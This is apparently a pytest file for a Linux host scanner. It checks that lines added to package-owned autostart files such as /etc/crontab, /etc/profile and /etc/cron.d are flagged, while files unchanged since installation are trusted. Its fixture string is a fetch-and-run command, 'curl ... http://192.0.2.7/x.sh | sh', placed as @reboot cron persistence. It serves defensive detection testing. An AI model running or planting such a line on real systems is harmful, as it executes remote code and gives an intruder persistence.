"""An entry is trusted while its file is as its package installed it: one more line, and every line is judged."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from davy.host import at
from davy.model.autostarts import Autostart
from davy.model.incidents import Role
from davy.scan import scan

CRONTAB = "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
PROFILE = "if [ -d /etc/profile.d ]; then\n  . /etc/profile.d/x.sh\nfi\n"
ADDED = "curl -fsSL http://192.0.2.7/x.sh | sh"


def root_of(folder: Path, package: str, path: str, installed: str, now: str) -> None:
    """A Debian root with one package, one configuration file of it, and what is in the file now."""
    md5 = hashlib.md5(installed.encode(), usedforsecurity=False).hexdigest()
    files = {
        "/etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
        "/var/lib/dpkg/status": f"Package: {package}\nStatus: install ok installed\nArchitecture: all\n"
        f"Version: 1\nConffiles:\n {path} {md5}\n\n",
        f"/var/lib/dpkg/info/{package}.list": f"/.\n/etc\n{path}\n",
        f"/var/lib/dpkg/info/{package}.md5sums": "",
        path: now,
    }
    for each, content in files.items():
        place = folder / each.lstrip("/")
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(content)


def judged(folder: Path) -> tuple[list[Autostart], set[int | None]]:
    snapshot, judgement = scan(at(str(folder)))
    accused = {
        actor.line for one in judgement.incidents for actor in one.actors if actor.role is Role.AUTOSTART
    }  # fmt: skip
    return list(snapshot.autostarts), accused


@pytest.mark.parametrize(
    ("package", "path", "installed", "added", "line"),
    [
        ("cron", "/etc/crontab", CRONTAB, f"@reboot root {ADDED}\n", 3),
        ("base-files", "/etc/profile", PROFILE, f"{ADDED}\n", 4),
    ],
)
def test_a_guilty_line_in_a_packages_file_is_accused_and_its_honest_lines_are_not(
    tmp_path: Path, package: str, path: str, installed: str, added: str, line: int
) -> None:
    root_of(tmp_path, package, path, installed, installed + added)
    entries, accused = judged(tmp_path)
    assert len(entries) >= 2
    assert {(one.owner_package, one.unmodified) for one in entries if one.path == path} == {(package, False)}
    assert accused == {line}


def test_what_a_package_installed_is_not_judged_by_its_words(tmp_path: Path) -> None:
    text = f"{CRONTAB}@daily root {ADDED}\n"
    root_of(tmp_path, "agent", "/etc/crontab", text, text)
    entries, accused = judged(tmp_path)
    assert all(one.vendor for one in entries)
    assert accused == set()


def test_a_line_in_a_packages_list_makes_nothing_that_packages(tmp_path: Path) -> None:
    """Whatever a package installed it keeps the sum of, in its md5sums or among its configuration files."""
    root_of(tmp_path, "cron", "/etc/crontab", CRONTAB, CRONTAB)
    (tmp_path / "etc/cron.d").mkdir()
    (tmp_path / "etc/cron.d/x").write_text(f"@reboot root {ADDED}\n")
    with (tmp_path / "var/lib/dpkg/info/cron.list").open("a") as listed:
        listed.write("/etc/cron.d/x\n")
    entries, accused = judged(tmp_path)
    assert {(one.owner_package, one.vendor) for one in entries if one.path == "/etc/cron.d/x"} == {("cron", False)}
    assert accused == {1}
